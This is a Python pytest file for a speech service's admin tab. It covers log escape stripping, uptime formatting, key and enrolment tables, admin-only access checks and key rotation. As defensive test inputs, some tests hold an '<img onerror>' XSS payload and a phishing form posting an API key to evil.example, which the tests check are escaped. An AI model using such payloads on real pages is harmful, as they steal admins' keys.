"""The admin tab's pieces without a browser: terminal colour codes stripped from logs, uptime in human
units in both languages, the key and enrolment tables, and the bridge's key calls: admins only (a user
key is refused), the same results as the admin REST routes."""

from __future__ import annotations

import pytest

from cosyserve.service.access.principals import Forbidden, Principal
from cosyserve.ui.admin_status import enrolments_markdown, human_duration, keys_markdown, strip_ansi
from cosyserve.ui.admin_tab import logs_text


@pytest.mark.parametrize(
    "raw, clean",
    [
        ("\x1b[32mINFO\x1b[0m:     started", "INFO:     started"),
        ("\x1b[1;31;40mERROR\x1b[39;49m boom", "ERROR boom"),
        ("\x1b[38;5;208morange\x1b[m text", "orange text"),
        ("\x1b[38;2;255;0;0mred\x1b[0m", "red"),
        ("\x1b[2K\x1b[1Gprogress 50%", "progress 50%"),  # erase line, cursor to column 1
        ("\x1b]0;window title\x07after", "after"),  # OSC, ended by BEL
        ("\x1b]8;;https://x.test\x1b\\link\x1b]8;;\x1b\\", "link"),  # hyperlink, ended by ST
        ("\x1b(Bplain", "plain"),  # charset selection: ESC ( then B
        ("\x9b31mC1 CSI", "C1 CSI"),
        ("a line cut off after its escape\x1b", "a line cut off after its escape"),
        ("no escapes: [32m is just text", "no escapes: [32m is just text"),
        ("中文日志 \x1b[33m警告\x1b[0m", "中文日志 警告"),
    ],
)
def test_strip_ansi(raw, clean):
    assert strip_ansi(raw) == clean


def test_logs_text_shows_no_escape_sequences():
    entries = [
        {
            "ts": "2026-12-02T05:00:00",
            "level": "INFO",
            "logger": "uvicorn.error",
            "message": "\x1b[32mApplication startup complete.\x1b[0m",
            "detail": "\x1b[1mbold\x1b[0m",
        }
    ]
    shown = logs_text(entries)
    assert "\x1b" not in shown
    assert "Application startup complete. detail=bold" in shown


@pytest.mark.parametrize(
    "seconds, en, zh",
    [
        (0, "0 s", "0 秒"),
        (0.7, "0 s", "0 秒"),
        (42.6, "42 s", "42 秒"),
        (60, "1 min", "1 分钟"),
        (303, "5 min 3 s", "5 分钟 3 秒"),
        (2 * 3600, "2 h", "2 小时"),
        (2 * 3600 + 14 * 60 + 59, "2 h 14 min", "2 小时 14 分钟"),
        (86400 - 1, "23 h 59 min", "23 小时 59 分钟"),
        (3 * 86400 + 4 * 3600 + 59 * 60, "3 d 4 h", "3 天 4 小时"),
        (3 * 86400 + 30 * 60, "3 d", "3 天"),  # no "0 h"
        (400 * 86400, "400 d", "400 天"),
        (-5, "0 s", "0 秒"),  # a clock step back is not a negative uptime
    ],
)
def test_human_duration(seconds, en, zh):
    assert human_duration(seconds, "en") == en
    assert human_duration(seconds, "zh") == zh


def test_keys_and_enrolment_tables():
    from cosyserve.service.stores.voices import Voice

    view = {
        "id": 3,
        "name": "alice|bob",
        "prefix": "cs_Ab3dEf9h",
        "role": "user",
        "active": False,
        "last_used_at": None,
        "usage_today": {"used_s": 12.5, "reserved_s": 4.0, "limit_s": 600.0, "resets_at": 0},
    }
    table = keys_markdown([view], "en")
    assert "| 3 | alice&#124;bob | `cs_Ab3dEf9h…` | user | revoked | 12.5 s | 4 s | 600 s | - |" in table
    # a name is shown as written, never rendered (an <img> in a key's name loaded in admins' browsers)
    shown = keys_markdown([{**view, "name": "k <img src=y onerror=x> **b** [a](http://e)"}], "en")
    assert "k &#60;img src=y onerror=x&#62; &#42;&#42;b&#42;&#42; &#91;a&#93;(http&#58;//e)" in shown, shown
    assert "unlimited" in keys_markdown(
        [{**view, "usage_today": {**view["usage_today"], "limit_s": None}}], "en"
    )
    assert keys_markdown([], "zh") == "还没有 API 密钥。"
    voice = Voice(
        "v1", "carol", None, 0.0, "sum", None, None,  # type: ignore[arg-type]
        owner="key:3", shared=False, consent={"by": "ui-user", "at": 86400.0 * 365},
    )  # fmt: skip
    rows = enrolments_markdown([voice], "en")
    assert "| carol | key:3 | ui-user | 1971-01-01 00:00 UTC | no |" in rows
    named = enrolments_markdown([voice], "zh", {"key:3": "ui-user"})
    assert "| carol | ui-user (key:3) | ui-user | 1971-01-01 00:00 UTC | 否 |" in named
    old = Voice("v2", "dave", None, 0.0, "sum", None, None)  # type: ignore[arg-type]
    assert "| dave | (none) | (not recorded) | - | yes |" in enrolments_markdown([old], "en")


@pytest.fixture()
def bridge(tmp_path):
    from cosyserve.service.assembly import Service
    from cosyserve.service.settings import Settings
    from cosyserve.ui.bridge import UiBridge

    def no_model(_settings, _voices):
        raise RuntimeError("no model in this test")

    settings = Settings(
        model="demo",
        device="cpu",
        data_dir=tmp_path / "data",
        signing_secret="test-signing-secret-0123456789abcdef",
        ui_username="admin",
        ui_password="unit-test-password",
    )
    service = Service(settings, synthesizer_factory=no_model)
    yield UiBridge(service)
    service.shutdown()


def test_a_user_key_is_refused_every_admin_call(bridge):
    key, plaintext = bridge.service.keys.create("someone", role="user")
    user = bridge.principal({"Authorization": f"Bearer {plaintext}"}, {})
    assert user is not None and not user.is_admin
    calls = [
        lambda: bridge.keys(user),
        lambda: bridge.create_key(user, "sneaky", "admin", None),
        lambda: bridge.revoke_key(user, key.id),
        lambda: bridge.set_quota(user, key.id, 10_000.0),
        lambda: bridge.enrolments(user),
        lambda: bridge.logs(user),
        lambda: bridge.restart_engine(user),
    ]
    for call in calls:
        with pytest.raises(Forbidden):
            call()
    assert [k.name for k in bridge.service.keys.list()] == ["someone"]  # nothing was created
    unchanged = bridge.service.keys.get(key.id)
    assert unchanged.active and unchanged.daily_audio_seconds_quota is None


def test_an_admin_creates_lists_sets_a_quota_and_revokes(bridge):
    admin = Principal("session", "admin", name="admin")
    view, plaintext = bridge.create_key(admin, "  team-laptop ", "user", 900.0)
    assert view["name"] == "team-laptop" and plaintext.startswith(view["prefix"])
    assert view["usage_today"] == {**view["usage_today"], "used_s": 0.0, "reserved_s": 0.0, "limit_s": 900.0}
    assert "hash" not in view
    key = bridge.service.keys.authenticate(plaintext)
    assert key is not None and key.daily_audio_seconds_quota == 900.0  # the shown key is the key
    bridge.service.access.quota.add(key, 12.0)
    held = bridge.service.access.quota.reserve(key, 30.0)  # a request still running
    [listed] = bridge.keys(admin)
    assert (listed["usage_today"]["used_s"], listed["usage_today"]["reserved_s"]) == (12.0, 30.0)
    bridge.service.access.quota.release(held)
    assert bridge.set_quota(admin, view["id"], 60.0)["usage_today"]["limit_s"] == 60.0
    assert bridge.set_quota(admin, view["id"], None)["daily_audio_seconds_quota"] is None  # server default
    revoked = bridge.revoke_key(admin, str(view["id"]))
    assert revoked["active"] is False
    assert bridge.service.keys.authenticate(plaintext) is None


def test_the_last_admin_key_is_kept(bridge):
    """Making the only admin key a user key, or revoking it, locked everyone out of the admin routes."""
    from cosyserve.errors import InputError
    from cosyserve.service.access.key_admin import revoke_key, update_key

    keys = bridge.service.keys
    only, _ = keys.create("root", role="admin")
    with pytest.raises(InputError, match="last admin key: create another admin key first"):
        update_key(keys, only.id, who="root", endpoint="api", role="user")
    with pytest.raises(InputError, match="last admin key"):
        revoke_key(keys, only.id, who="root", endpoint="api")
    second, _ = keys.create("ops", role="admin")
    assert update_key(keys, only.id, who="ops", endpoint="api", role="user").role == "user"
    with pytest.raises(InputError, match="last admin key"):
        revoke_key(keys, second.id, who="ops", endpoint="api")


def test_bad_input_is_an_input_error(bridge):
    from cosyserve.errors import InputError

    admin = Principal("session", "admin", name="admin")
    with pytest.raises(InputError, match="name"):
        bridge.create_key(admin, "   ", "user", None)
    with pytest.raises(InputError, match="quota"):
        bridge.create_key(admin, "x", "user", -3.0)
    with pytest.raises(InputError, match="no API key"):
        bridge.revoke_key(admin, "999")


def test_admin_strings_add_keys_without_replacing_any():
    import ast
    from pathlib import Path

    from cosyserve.ui import i18n
    from cosyserve.ui.i18n_admin import ADMIN_STRINGS

    tree = ast.parse(Path(i18n.__file__).read_text(encoding="utf-8"))
    table = next(n.value for n in ast.walk(tree) if isinstance(n, ast.AnnAssign) and n.target.id == "STRINGS")
    assert not {key.value for key in table.keys} & set(ADMIN_STRINGS)  # type: ignore[attr-defined]


def test_two_admins_revoking_each_other_at_once_leave_one(tmp_path):
    """Checked apart from the revoke, both succeeded and no admin key was left."""
    import threading

    import sqlalchemy as sa

    from cosyserve.errors import InputError
    from cosyserve.service.access.key_admin import revoke_key
    from cosyserve.service.stores.db import make_engine
    from cosyserve.service.stores.keys import KeyStore

    for attempt in range(10):
        keys = KeyStore(make_engine(f"sqlite:///{tmp_path / f'race{attempt}.db'}"), sa.MetaData())
        first, _ = keys.create("root", role="admin")
        second, _ = keys.create("ops", role="admin")
        start, outcomes = threading.Barrier(2), []

        def revoke(keys, start, outcomes, key_id, who):
            start.wait()
            try:
                revoke_key(keys, key_id, who=who, endpoint="api")
                outcomes.append("revoked")
            except InputError:
                outcomes.append("refused")

        shared = (keys, start, outcomes)
        threads = [threading.Thread(target=revoke, args=(*shared, first.id, "ops")),
                   threading.Thread(target=revoke, args=(*shared, second.id, "root"))]  # fmt: skip
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert sorted(outcomes) == ["refused", "revoked"], outcomes


def test_a_voices_transcript_is_shown_as_written_in_the_studio_note() -> None:
    """A user's transcript holding a `<form>` or an image was rendered in the admin's studio note (a
    phishing form for the admin's key inside the real page, an image fetched from elsewhere)."""
    from types import SimpleNamespace

    from cosyserve.ui.studio_events import voice_lock

    transcript = "<form action=http://evil.example/steal><input name=api_key></form> ![t](http://e/x.png)"
    voice = SimpleNamespace(name="md_voice", transcript=transcript)
    bridge = SimpleNamespace(voice=lambda principal, voice_id: voice, may_read_private=lambda p, v: True)
    note, *_ = voice_lock(SimpleNamespace(bridge=bridge), None, "zero_shot", "v1", "en")
    assert not any(mark in note for mark in ("<", "](", "![", "http:"))  # no tag, link, image or address
    assert "&#60;form action=http&#58;//evil&#46;example" in note and "md&#95;voice" in note


def test_no_address_in_a_users_words_becomes_a_link() -> None:
    from cosyserve.ui.messages import as_written

    for address in ("www.1password.com", "http://evil.example/x", "mail@evil.example", "WWW.x.org"):
        shown = as_written(f"see {address} now")
        assert "www." not in shown.lower() and "://" not in shown and "@" not in shown, shown


def test_an_admin_giving_its_own_key_a_new_secret_is_shown_it(bridge):
    """Signed in with the key it rotated, the admin's session ended with the old secret before the page
    was redrawn: the new secret was shown to nobody and the page only said the login had expired."""
    from types import SimpleNamespace

    from cosyserve.ui.admin_keys import _KeyActions
    from cosyserve.ui.bridge import SESSION_COOKIE

    key, plaintext = bridge.service.keys.create("ops", role="admin")
    token = bridge.key_login(plaintext)
    request = SimpleNamespace(headers={}, cookies={SESSION_COOKIE: token})
    *_, created, _, said, _ = _KeyActions(bridge).rotate("en", str(key.id), request)
    new = created.split("```")[1].strip()
    assert (
        bridge.service.keys.authenticate(new).id == key.id
        and bridge.service.keys.authenticate(plaintext) is None
    )
    assert "the key you signed in with" in said
